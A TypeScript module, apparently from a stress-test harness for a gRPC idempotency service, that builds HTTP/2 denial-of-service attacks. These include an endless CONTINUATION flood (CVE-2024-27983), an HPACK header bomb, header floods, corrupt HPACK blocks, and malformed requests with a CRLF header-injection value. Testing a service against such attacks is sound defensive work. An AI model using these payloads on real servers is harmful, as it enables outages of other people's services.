import { type Attack, atOnce, digested, onConnection, pour, streamOf, type Target } from "./attack.ts";
import { CLAIM_PATH, callBlock } from "./calls.ts";
import {
  callHeaders,
  FLAG,
  FRAME_BYTES_MAX,
  frame,
  headerBlock,
  headers,
  indexed,
  integer,
  longHeaders,
  OPENING,
  TYPE,
  text,
} from "./frame.ts";

const CONNECTIONS = 4;

function opened(target: Target, count: number, chunkOf: (i: number) => Buffer, before?: Buffer): Promise<void> {
  return atOnce(CONNECTIONS, () =>
    onConnection(target, async (connection) => {
      await connection.send(before === undefined ? OPENING : Buffer.concat([OPENING, before]));
      await pour(target, connection, count, chunkOf);
      await digested(connection);
    }),
  );
}

/** Headers that never end: the first frame, and what may follow it for ever. */
function continued(target: Target, part: () => Buffer): Promise<void> {
  const first = frame(TYPE.headers, FLAG.none, 1, callBlock(target, CLAIM_PATH));
  return opened(target, 2000, () => frame(TYPE.continuation, FLAG.none, 1, part()), first);
}

/** An entry of 3 KiB is put into the table, and then named by one byte, again and again: each is 3 KiB again. */
const BOMB_ENTRY = indexed("x-bomb", "b".repeat(3000));
const BOMB_REFERENCE = Buffer.of(0x80 | 62);

const junk = ({ chance }: Target, length: number) => Buffer.from(Array.from({ length }, () => chance.whole(0, 255)));

/** Blocks that are none, each an error of compression, which ends the connection. */
const BROKEN_BLOCKS: readonly ((target: Target) => Buffer)[] = [
  // An index of nothing, an index beyond the table, and integers without end.
  () => Buffer.of(0x80),
  () => integer(1000, 7, 0x80),
  () => Buffer.concat([Buffer.of(0xff), Buffer.alloc(200, 0xff)]),
  () => Buffer.of(0xff, 0xff, 0xff, 0xff, 0xff, 0x0f),
  // A text that is longer than the block, a table larger than was allowed, and Huffman codes that do not end.
  () => Buffer.concat([Buffer.of(0), integer(10_000, 7, 0), Buffer.from("x")]),
  () => integer(2 ** 30, 5, 0x20),
  () => Buffer.concat([Buffer.of(0), integer(4, 7, 0x80), Buffer.alloc(4, 0xff), text("v")]),
  (target) => junk(target, target.chance.whole(1, 400)),
];

const START = "/holdfast.v1.IdempotencyService/Claim";

/** Requests that are no requests. Each is an error of its stream. */
const STARTS: readonly (readonly (readonly [string, string])[])[] = [
  [],
  [[":method", "POST"]],
  [...callHeaders(START), [":path", "/twice"]],
  [["te", "trailers"], ...callHeaders(START)],
  [...callHeaders(START), [":status", "200"]],
  [...callHeaders(START), ["Upper-Case", "x"]],
  [...callHeaders(START), ["connection", "keep-alive"]],
  [...callHeaders(START), ["transfer-encoding", "chunked"]],
  [...callHeaders(START), ["te", "gzip"]],
  [...callHeaders(START), ["", "nameless"]],
  [...callHeaders(START), ["x-line", "a\r\nb: c"]],
  [...callHeaders(START), ["content-length", "5"]],
  [...callHeaders(START), ["content-length", "-1"]],
  callHeaders(""),
  callHeaders("*"),
  callHeaders("no-slash"),
  callHeaders(START).map(([name, value]) => (name === ":method" ? [name, "CONNECT"] : [name, value])),
  callHeaders(START).map(([name, value]) => (name === ":method" ? [name, ""] : [name, value])),
  callHeaders(START).map(([name, value]) => (name === ":scheme" ? [name, "\u0000"] : [name, value])),
  callHeaders(START).filter(([name]) => name !== ":path"),
  callHeaders(START).filter(([name]) => name !== "content-type"),
];

export const HEADERS: readonly Attack[] = [
  {
    ...{ name: "continuation", port: "grpc", what: "HEADERS with CONTINUATION and no end (CVE-2024-27983)" },
    round: (target) => continued(target, () => headerBlock([["x-more", "m".repeat(1000)]])),
  },
  {
    ...{ name: "continuation-empty", port: "grpc", what: "CONTINUATION of nothing, and no end" },
    round: (target) => continued(target, () => Buffer.alloc(0)),
  },
  {
    ...{ name: "header-bomb", port: "grpc", what: "kilobytes of headers in a byte each, by the table of HPACK" },
    round: (target) => {
      const bomb = Buffer.concat([callBlock(target, CLAIM_PATH), Buffer.alloc(FRAME_BYTES_MAX / 2, BOMB_REFERENCE[0])]);
      const fill = headers(1, Buffer.concat([callBlock(target, CLAIM_PATH), BOMB_ENTRY]), FLAG.endHeaders | 1);
      return opened(target, 200, (i) => longHeaders(streamOf(i + 1), bomb, FLAG.endStream), fill);
    },
  },
  {
    ...{ name: "header-list", port: "grpc", what: "thousands of headers, and single ones of 64 KiB" },
    round: (target) => {
      const many = Array.from({ length: 4000 }, (_, i) => [`x-${i}`, "v"] as const);
      const huge = [["x-huge", "h".repeat(65_536)]] as const;
      return opened(target, 50, (i) =>
        longHeaders(streamOf(i), callBlock(target, CLAIM_PATH, target.chance.pick([many, huge])), FLAG.endStream),
      );
    },
  },
  {
    ...{ name: "header-junk", port: "grpc", what: "blocks that HPACK cannot read" },
    round: (target) => {
      const blocks = () => target.chance.pick(BROKEN_BLOCKS)(target);
      return atOnce(40, () =>
        onConnection(target, async (connection) => {
          await connection.send(Buffer.concat([OPENING, headers(1, blocks(), FLAG.endHeaders | FLAG.endStream)]));
          await connection.next(200);
        }),
      );
    },
  },
  {
    ...{ name: "malformed-start", port: "grpc", what: "requests without path, with two, with what HTTP/2 forbids" },
    round: (target) =>
      opened(target, 300, (i) => {
        const block = headerBlock(target.chance.pick(STARTS));
        return longHeaders(streamOf(i), block, target.chance.pick([FLAG.none, FLAG.endStream]));
      }),
  },
];
